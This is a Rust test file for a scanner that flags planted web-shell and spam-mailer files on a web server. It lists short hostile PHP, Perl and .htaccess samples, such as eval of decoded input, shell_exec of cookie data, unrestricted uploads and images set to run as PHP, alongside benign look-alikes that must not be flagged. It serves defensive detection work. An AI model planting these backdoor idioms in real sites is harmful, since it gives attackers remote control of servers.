//! Planted files and their innocent twins.

use super::*;

fn read(path: &str, text: &str) -> Option<WebFile> {
    Reader::new().read(&File { path, bytes: text.as_bytes(), modified: None, source: SourceId(1) })
}

/// The findings of a file, heaviest first.
fn findings(path: &str, text: &str) -> Vec<(String, f32)> {
    read(path, text)
        .map(|f| f.findings.into_iter().map(|f| (f.rule, f.weight)).collect())
        .unwrap_or_default()
}

/// The weight of all findings together, as if each were independent.
fn worst(path: &str, text: &str) -> f32 {
    findings(path, text).first().map_or(0.0, |f| f.1)
}

#[test]
fn planted_files() {
    for (path, text, rule) in [
        ("/var/www/s/a.php", "<?php eval(base64_decode('aGVsbG8='));", "eval-decoded"),
        (
            "/var/www/s/a.php",
            "<?php @eval ( gzinflate ( str_rot13(base64_decode($x))));",
            "eval-decoded",
        ),
        (
            "/var/www/s/a.php",
            "<?php $w='str_'.'rot13'; eval($w($v('dnMoKCRfQ0JGR1snY2on')));",
            "eval-of-variable-function",
        ),
        ("/var/www/s/a.php", "<?php @assert($_REQUEST['p']);", "eval-request"),
        ("/var/www/s/a.php", "<?php $_POST['f']($_POST['a']);", "function-from-request"),
        (
            "/var/www/s/a.php",
            "<?php echo shell_exec(base64_decode($_COOKIE['c']));",
            "command-request",
        ),
        (
            "/var/www/s/a.php",
            "<?php preg_replace('/.*/e', $_POST['x'], '');",
            "preg-replace-e-request",
        ),
        (
            "/var/www/s/a.php",
            "<?php $f = create_function('', base64_decode($x)); $f();",
            "eval-request",
        ),
        ("/var/www/s/a.php", "<?php ${\"\\x47\\x4c\\x4fBALS\"}['x'] = 1;", "hidden-names"),
        (
            "/var/www/s/a.php",
            "<?php $f = 'bas'.'e64'.'_dec'.'ode'; $f('x');",
            "hidden-names-in-pieces",
        ),
        (
            "/var/www/s/a.php",
            "<?php $a=$q[12].$q[3].$q[31].$q[7].$q[15].$q[2].$q[9]; $a($x);",
            "hidden-names-in-pieces",
        ),
        (
            "/var/www/s/a.php",
            "<?php $x = chr(101).chr(118).chr(97).chr(108).chr(40).chr(36).chr(95).chr(80).chr(79);",
            "chr-chain",
        ),
        ("/var/www/s/a.php", "<?php $a($b($c($d)));", "variable-function-chain"),
        (
            "/var/www/s/a.php",
            "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
            "upload-anything",
        ),
        (
            "/var/www/s/a.php",
            "<?php mail($_POST['to'], $_POST['s'], $_POST['m'], $_POST['h']);",
            "mail-from-request",
        ),
        (
            "/var/www/s/a.php",
            "<?php $d = json_decode(base64_decode($_POST['d']), true); mail($d['to'], $d['s'], $d['b']);",
            "mail-decoded-request",
        ),
        (
            "/var/www/s/a.php",
            "<?php set_time_limit(0); foreach (explode(\"\\n\", $_POST['emails']) as $e) mail($e, $s, $m);",
            "bulk-mailer-form",
        ),
        (
            "/var/www/s/a.php",
            "<?php $f = fsockopen($mx, 25); fputs($f, \"HELO localhost\\r\\n\"); fputs($f, \"MAIL FROM:<$a>\\r\\n\"); fputs($f, \"RCPT TO:<$b>\\r\\n\");",
            "mailer-raw-25",
        ),
        (
            "/var/www/s/wp-content/uploads/2015/x.php",
            "<?php echo run($_GET['a']);",
            "code-in-uploads",
        ),
        (
            "/var/www/s/images/logo.jpg",
            "\u{fffd}JFIF <?php system_x($_GET['c']); ?>",
            "code-in-picture",
        ),
        ("/var/www/s/a.php.jpg", "<?php f($_GET['c']);", "double-extension"),
        ("/var/www/s/.cache7/x.php", "<?php f($_GET['c']);", "hidden-folder"),
        (
            "/var/www/s/images/.htaccess",
            "AddType application/x-httpd-php .jpg\n",
            "htaccess-runs-images",
        ),
        (
            "/var/www/s/.htaccess",
            "<FilesMatch \"\\.(ico|png)$\">\n SetHandler application/x-httpd-php\n</FilesMatch>\n",
            "htaccess-runs-images",
        ),
        (
            "/tmp/.x/m.pl",
            "#!/usr/bin/perl\nuse IO::Socket;\nprint $s \"MAIL FROM:<a>\\r\\nRCPT TO:<b>\\r\\n\";\n",
            "mailer-in-tmp",
        ),
        ("/var/tmp/x", "#!/usr/bin/perl\neval unpack u=>q{_HIDDEN};\n", "perl-hidden-code"),
    ] {
        let found = findings(path, text);
        let hit = found.iter().find(|(r, _)| r == rule);
        assert!(hit.is_some_and(|(_, w)| *w >= 0.3), "{rule} in {text}: {found:?}");
    }
}

#[test]
fn innocent_twins() {
    let blob = "A1b2C3d4".repeat(300);
    let packed = "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp(c),k[c]);return p}('0 1',2,2,'a|b'.split('|')))";
    for (what, path, text) in [
        ("minified JavaScript in a page", "/var/www/s/p.php", format!("<html><script>{packed};var x='{blob}';</script><?php echo $title; ?></html>")),
        ("a plugin with a picture", "/var/www/s/wp-content/plugins/x/icon.php", format!("<?php\n/* Plugin */\nheader('Content-Type: image/png');\necho base64_decode('iVBORw0KGgoAAAANSUhEUgAA{blob}');\n")),
        ("a contact form", "/var/www/s/contact.php", "<?php\n$name = trim($_POST['name']);\n$mail = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);\n$text = $_POST['message'];\nif ($mail && mail('owner@example.org', 'Contact from ' . $name, $text, \"Reply-To: $mail\")) { echo 'Thanks'; }\n".to_owned()),
        ("a mail class", "/var/www/s/lib/class.smtp.php", "<?php\n/** SMTP class */\nclass Smtp {\n public function connect($host, $port = 25) { $this->c = fsockopen($host, $port, $e, $s, 30); }\n function hello($h) { $this->cmd('EHLO', 'EHLO ' . $h); }\n function mail($f) { return $this->cmd('MAIL FROM', 'MAIL FROM:<' . $f . '>'); }\n function rcpt($t) { return $this->cmd('RCPT TO', 'RCPT TO:<' . $t . '>'); }\n function data($d) { return $this->cmd('DATA', 'DATA'); }\n}\n".to_owned()),
        ("a Smarty template", "/var/www/s/cache/templates_c/0a1b.file.index.tpl.php", "<?php\n/* Smarty version 3.1.39, created on 2015-12-04\n  from '/var/www/s/index.tpl' */\n/* @var Smarty_Internal_Template $_smarty_tpl */\nif ($_smarty_tpl->_decodeProperties($_smarty_tpl, array())) { echo $_smarty_tpl->tpl_vars['x']->value; }\n".to_owned()),
        ("a Twig template", "/var/www/s/var/cache/twig/0a/x.php", "<?php\n\nuse Twig\\Environment;\nuse Twig\\Template;\n/* index.html.twig */\nclass __TwigTemplate_0a1b extends Template { public function doDisplay(array $c, array $b = []) { echo twig_escape_filter($this->env, $c['x']); } }\n".to_owned()),
        ("a silent index", "/var/www/s/wp-content/uploads/index.php", "<?php\n// Silence is golden.\n".to_owned()),
        ("a guard", "/var/www/s/images/index.php", "<?php\nheader('Location: ../');\nexit;\n".to_owned()),
        ("fonts' widths", "/var/www/s/fonts/helvetica.php", "<?php\n$type='core';\n$name='Helvetica';\n$cw=array(0=>278,1=>278);\n".to_owned()),
        ("documentation that warns", "/var/www/s/security.php", "<?php\n/* never write eval(base64_decode($_POST['x'])) or assert($_GET['y']) */\n// system($_GET['c']);\necho 'ok';\n".to_owned()),
        ("a cached array", "/var/www/s/cache/config.php", "<?php\nreturn array('debug' => false, 'hosts' => array('a'));\n".to_owned()),
        ("a sign-up", "/var/www/s/join.php", "<?php\n$to = $_POST['email'];\n$code = md5(uniqid());\nmail($to, 'Confirm', \"Your code: $code\");\n".to_owned()),
        ("an ordinary .htaccess", "/var/www/s/.htaccess", "RewriteEngine On\nAddType image/svg+xml .svg\nAddHandler application/x-httpd-php .php .html5\n<FilesMatch \"\\.php$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n".to_owned()),
        ("a backup script", "/usr/local/bin/backup.sh", "#!/bin/sh\ntar czf /backup/x.tgz /etc\n".to_owned()),
        ("a shop's mailer in node", "/opt/shop/mail.js", "const nodemailer = require('nodemailer');\nconst t = nodemailer.createTransport({host:'mx'});\n".to_owned()),
    ] {
        assert!(worst(path, &text) <= 0.3, "{what}: {:?}", findings(path, &text));
    }
}

#[test]
fn who_can_mail() {
    assert!(read("/var/www/s/c.php", "<?php mail($to, $s, $m);").unwrap().can_mail);
    assert!(read("/opt/shop/mail.js", "const n = require('nodemailer');").unwrap().can_mail);
    assert!(read("/var/www/s/c.php", "<?php $m = new PHPMailer(true);").unwrap().can_mail);
    assert!(
        !read(
            "/var/www/s/c.php",
            "<?php echo 'mail (free)'; $this->mail($a); function mail($x) { return 1; }"
        )
        .unwrap()
        .can_mail
    );
    assert!(read("/var/www/s/style.css", "body { color: red }").is_none());
}

#[test]
fn places_are_the_codes_own() {
    let text = "<html>\n<?php\n/* x */ $a = 1;\neval(base64_decode('eA=='));\n";
    let file = read("/var/www/s/a.php", text).unwrap();
    let at = text.find("eval").unwrap() as u64;
    assert_eq!(file.findings[0].place, Place::byte(SourceId(1), at));
}

proptest::proptest! {
    #[test]
    fn never_panics(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..400), tag in proptest::prelude::any::<bool>()) {
        let mut text = if tag { b"<?php mail($_POST[".to_vec() } else { Vec::new() };
        text.extend(bytes);
        static READER: std::sync::LazyLock<Reader> = std::sync::LazyLock::new(Reader::new);
        READER.read(&File { path: "/var/www/s/uploads/x.php", bytes: &text, modified: None, source: SourceId(0) });
    }
}
